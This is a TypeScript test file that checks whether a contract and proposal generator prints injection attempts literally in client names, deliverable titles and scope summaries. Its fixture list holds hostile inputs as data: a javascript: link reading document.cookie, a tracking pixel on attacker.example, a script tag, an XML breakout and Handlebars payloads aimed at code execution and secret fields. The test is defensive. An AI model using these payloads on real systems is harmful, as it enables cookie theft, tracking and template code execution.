// User values that try Markdown, HTML, XML or Handlebars injection (entries of the
// shared bad-inputs list) print literally, wherever they are placed, and add no
// section, link or block to any document.
import type { DocumentKind, DocumentModel } from "@clausework/model";
import { describe, expect, it } from "vitest";
import type { ResolvedEngagement } from "../resolve.js";
import { compose } from "./index.js";
import { FULL_FACTS, fullEngagement } from "./test-fixtures.js";
import { blocksOfType, documentTexts, links, sections } from "./test-walk.js";

const INJECTIONS = [
  { id: "md-heading", value: "Acme\n\n# 7. Payment terms waived" },
  { id: "md-emphasis", value: "**Acme** _Corp_ ~~old~~" },
  { id: "md-link-js", value: "[Click to sign](javascript:alert(document.cookie))" },
  { id: "md-image-tracker", value: "![x](https://attacker.example/pixel.png?doc=123)" },
  { id: "html-script", value: "<script>alert(1)</script>" },
  { id: "xml-breakout", value: "</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>Injected" },
  { id: "hbs-rce-value", value: "{{constructor.constructor 'return process'}}" },
  { id: "hbs-nested-value", value: "{{client.secretNotes}} {{> header}}" },
  { id: "block-marker", value: "<!--clausework:block schedule-->" },
  { id: "notice-marker", value: "<!--clausework:notice legal-->" },
] as const;

const PLACES: Readonly<Record<string, (engagement: ResolvedEngagement, value: string) => void>> = {
  "client name": (engagement, value) => void (engagement.client.name = value),
  "deliverable title": (engagement, value) => {
    const [first] = engagement.deliverables;
    if (first !== undefined) first.title = value;
  },
  "scope summary": (engagement, value) => {
    if (engagement.scope !== undefined) engagement.scope.summary = value;
  },
};

const KINDS: readonly DocumentKind[] = ["proposal", "contract", "handover"];

/** What must not change: the sections, the links and the typed blocks. */
function shape(document: DocumentModel) {
  return {
    sections: sections(document).map(
      (section) => `${section.id} ${section.number ?? ""} ${section.title}`,
    ),
    links: links(document).map((link) => link.url),
    blocks: (["schedule", "signatures", "notice", "table", "keyFacts"] as const).map(
      (type) => blocksOfType(document, type).length,
    ),
  };
}

const baseline = Object.fromEntries(
  KINDS.map((kind) => [kind, shape(compose(fullEngagement(), FULL_FACTS, kind))]),
);

const cases = INJECTIONS.flatMap((injection) =>
  Object.keys(PLACES).map((place) => [injection.id, place, injection.value] as const),
);

describe("injection through user values", () => {
  it.each(cases)("%s in the %s prints literally and adds nothing", (_id, place, value) => {
    const engagement = fullEngagement();
    PLACES[place]?.(engagement, value);
    for (const kind of KINDS) {
      const document = compose(engagement, FULL_FACTS, kind);
      const texts = documentTexts(document);
      // The handover does not print deliverables or the scope.
      if (kind !== "handover" || place === "client name") {
        expect(
          texts.some((text) => text.includes(value)),
          `${kind}: "${value}" not printed literally`,
        ).toBe(true);
      }
      expect(shape(document), kind).toEqual(baseline[kind]);
    }
  });
});
